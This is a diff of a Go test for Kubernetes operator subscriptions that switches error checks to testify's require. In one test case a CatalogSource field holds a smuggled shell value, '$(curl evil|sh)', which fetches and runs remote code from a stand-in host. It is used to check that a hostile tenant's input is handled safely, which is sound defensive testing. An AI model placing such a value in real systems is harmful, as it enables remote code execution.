@@ -7,6 +7,7 @@ import (
 	"github.com/google/go-cmp/cmp"
 	"github.com/operator-framework/api/pkg/operators/v1alpha1"
 	"github.com/operator-framework/operator-registry/alpha/declcfg"
+	"github.com/stretchr/testify/require"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 
 	"github.com/berth-csi/berth/lab/cluster"
@@ -28,9 +29,7 @@ func TestHostileTenant(t *testing.T) {
 			Spec: &v1alpha1.SubscriptionSpec{Package: "buoy", Channel: "stable" + text, CatalogSource: "sea" + text,
 				CatalogSourceNamespace: "sea" + text, StartingCSV: "buoy" + text, InstallPlanApproval: v1alpha1.ApprovalManual},
 		})
-		if err != nil {
-			t.Fatal(err)
-		}
+		require.NoError(t, err)
 	}
 	subscribe("reports-hostile-0", text)
 	subscribe("reports-harmless", harmless(text))
@@ -60,9 +59,7 @@ func TestHostileTenant(t *testing.T) {
 			ObjectMeta: metav1.ObjectMeta{Namespace: somebody.Project(t, "reports-doctor"), Name: "m"},
 			Spec:       &v1alpha1.SubscriptionSpec{Package: "manila-csi-driver-operator", Channel: "stable", CatalogSource: "$(curl evil|sh); x", CatalogSourceNamespace: "openshift-marketplace"},
 		}
-		if err := somebody.Client.Create(t.Context(), stranger); err != nil {
-			t.Fatal(err)
-		}
+		require.NoError(t, somebody.Client.Create(t.Context(), stranger))
 		out, stderr, code := run(t, berth, t.TempDir(), "doctor", "--kubeconfig", c.Kubeconfig())
 		if code != 0 || strings.Contains(out, "manila") {
 			t.Errorf("exit code %d, want 0 and nothing of the tenant's driver:\n%s%s", code, out, stderr)
